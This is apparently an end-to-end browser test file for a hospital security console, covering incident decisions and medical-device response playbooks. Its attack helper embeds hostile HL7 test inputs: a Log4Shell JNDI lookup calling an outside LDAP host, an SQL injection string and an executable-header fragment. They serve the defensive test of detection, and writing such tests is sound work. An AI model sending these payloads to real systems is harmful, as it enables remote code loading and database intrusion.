import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { bytes } from '../../packages/wire/src/testing/bytes.ts';
import { conversationsCapture } from '../../packages/wire/src/testing/conversation-capture.ts';
import { client, server } from '../../packages/wire/src/testing/play.ts';
import { accessibilityViolations } from './accessibility.ts';
import { consoleOfThisFile, follow } from './console-user.ts';

const PICTURES = process.env.SPHINX_TEST_SCREENSHOTS;
const TAMPERING = new URL('../../knowledge/playbooks/device-tampering.json', import.meta.url);

const { console, page, folder } = await consoleOfThisFile();

async function picture(name: string): Promise<void> {
  if (PICTURES !== undefined) await page.screenshot({ path: join(PICTURES, `${name}.png`), fullPage: true });
}

const message = (...segments: string[]) =>
  client(bytes(`\x0bMSH|^~\\&|HIS|KH|LIS|KH|20260401||ORU^R01|1|P|2.5\r${segments.join('\r')}\r\x1c\r`));
const ACCEPTED = server(bytes('\x0bMSH|^~\\&|LIS|KH|HIS|KH|20260401||ACK|1|P|2.5\rMSA|AA|1\r\x1c\r'));

/** Somebody on the network attacks an interface engine through the messages that it takes: an incident opens. */
async function attackEngine(): Promise<void> {
  const ends = { clientIp: '10.0.0.66', serverIp: '10.0.0.20', clientPort: 40_000, serverPort: 2575 };
  const turns = [
    message(`OBX|1|ST|1||${'$'}{jndi:ldap://203.0.113.9/a}`),
    ACCEPTED,
    message("OBX|1|ST|1||' or 1=1; union select name"),
    ACCEPTED,
    message('OBX|1|ED|1||^application^octet^Base64^TVqQAAMAAAAEAAAA'),
    ACCEPTED,
  ];
  const capture = join(folder, 'engine.pcap');
  await writeFile(capture, conversationsCapture([{ ends, turns }]));
  await follow(page, '/sources');
  await page.getByLabel('Capture files').setInputFiles(capture);
  await page.getByRole('row', { name: 'engine.pcap' }).getByText('Finished').waitFor();
}

describe('decisions, in a real browser', () => {
  it('are asked for as an incident opens, and told with consequences, care and reasons', async () => {
    await follow(page, '/decisions');
    await page.getByRole('heading', { name: 'Nothing asks for a decision' }).waitFor();
    await attackEngine();
    await follow(page, '/decisions');
    await page.getByRole('link', { name: /^INC-1: / }).click();
    await page.getByRole('button', { name: /Do nothing/ }).waitFor();
    await page
      .getByText(/Most of its points come from/)
      .first()
      .waitFor();
    await page
      .getByRole('link', { name: /The playbook, step by step/ })
      .first()
      .waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('decision');
  });

  it('are chosen by a person, and what came of it is told and learnt', async () => {
    await page
      .getByLabel(/^Reason for/)
      .first()
      .fill('The laboratory was asked');
    await page.getByRole('button', { name: 'Choose this' }).first().click();
    await page.getByText(/^Chosen: /).waitFor();
    await follow(page, '/decisions?view=chosen');
    await page.getByRole('button', { name: 'Tell what came of it' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
    await page.getByText(/It worked\./).waitFor();
    await picture('decisions-chosen');
    await page.getByRole('tab', { name: 'What was learnt' }).click();
    await page.getByRole('table', { name: 'What was learnt of playbooks' }).getByRole('row').nth(1).waitFor();
    await page.getByRole('tab', { name: 'Weights' }).click();
    await page.getByLabel('Care undisturbed').fill('60');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText(/Stated by/).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('decisions-weights');
    await page.getByRole('button', { name: 'Take the last change back' }).click();
    await page.getByText(/As SPHINX brings them/).waitFor();
  });
});

describe('playbooks, in a real browser', () => {
  it('are found by what happens, and told with the patients first', async () => {
    await follow(page, '/playbooks');
    await page.getByLabel('Search').fill('told to change');
    await page.getByRole('link', { name: 'A medical device is told to change what it does' }).click();
    await page.getByText('Do not switch a running pump off', { exact: false }).waitFor();
    const steps = page.getByRole('list', { name: 'Steps' });
    await steps.getByText('Go to the patient').waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('playbook-steps');
    await page.getByRole('tab', { name: 'Graph' }).click();
    await page.locator('svg rect').first().waitFor();
    await picture('playbook-graph');
    await page.getByRole('tab', { name: 'Care and effects' }).click();
    await page.getByText('Clinical lead on duty, Biomedical engineering').waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('playbook-care');
  });

  it('come in when they are whole, and say what is wrong when they are not', async () => {
    const own = JSON.parse(await readFile(TAMPERING, 'utf8')) as Record<string, unknown>;
    const [broken, whole] = [join(folder, 'broken.json'), join(folder, 'own.json')];
    await writeFile(broken, JSON.stringify({ ...own, workflow_start: 'start--1' }));
    await writeFile(
      whole,
      JSON.stringify({ ...own, name: 'Pumps: our own way', modified: '2026-12-01T00:00:00.000Z' }),
    );
    await follow(page, '/playbooks');
    await page.getByRole('button', { name: 'Import a playbook' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('Playbook').setInputFiles(broken);
    await dialog.getByText('at workflow_start').waitFor();
    expect(await dialog.getByRole('button', { name: 'Import', exact: true }).isDisabled()).toBe(true);
    await dialog.getByLabel('Playbook').setInputFiles(whole);
    await dialog.getByText('own.json can be carried out.').waitFor();
    await dialog.getByRole('button', { name: 'Import', exact: true }).click();
    await page.getByRole('row', { name: /Pumps: our own way.*own, replaces/ }).waitFor();
    await picture('playbooks');
    expect(await accessibilityViolations(page)).toEqual([]);
    expect(console.faults).toEqual([]);
  });
});

describe('the editor of playbooks, in a real browser', () => {
  it('copies what SPHINX brings, adds and connects steps, checks as one types, takes back, and saves', async () => {
    await follow(page, '/playbooks?search=accept-risk');
    await page.getByRole('link', { name: /Accept the risk/ }).click();
    await page.getByRole('link', { name: 'Copy and edit' }).click();
    await page.getByText(/a copy of it is edited/).waitFor();
    await page.getByText('Nothing is wrong with it.').waitFor();
    const steps = page.getByRole('navigation', { name: 'Steps of the playbook' });
    const count = await steps.getByRole('button').count();
    await steps.getByRole('button', { name: /Decide: owner, reason, end/ }).focus();
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Add a step behind it' }).click();
    await page.getByRole('menuitem', { name: 'If', exact: true }).click();
    await page
      .getByRole('button', { name: /New question, condition: / })
      .first()
      .waitFor();
    await steps.getByRole('button', { name: /New question \(has an error\)/ }).waitFor();
    await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Is it life-sustaining?');
    await page.getByRole('textbox', { name: 'Condition' }).fill('__device_ip__:value != ""');
    await page.getByRole('combobox', { name: 'If so' }).click();
    await page.getByRole('option', { name: 'Look again at the end' }).click();
    await picture('playbook-editor');
    expect(await accessibilityViolations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Remove it' }).click();
    await expect.poll(() => steps.getByRole('button').count()).toBe(count);
    await page.getByRole('button', { name: 'Undo', exact: true }).click();
    await expect.poll(() => steps.getByRole('button').count()).toBe(count + 1);
    await page.keyboard.press('Control+Shift+Z');
    await expect.poll(() => steps.getByRole('button').count()).toBe(count);
    await page.getByText('Nothing is wrong with it.').waitFor();
    await page.getByRole('textbox', { name: 'Name of the playbook' }).fill('Accept a risk, as we do it');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('heading', { name: 'Accept a risk, as we do it' }).waitFor();
    await page.getByText(/brought in by/).waitFor();
    await page.getByRole('link', { name: 'Edit', exact: true }).waitFor();
    await follow(page, '/playbooks/new/edit');
    await page.getByRole('heading', { name: 'New playbook' }).waitFor();
    expect(console.faults).toEqual([]);
  });
});
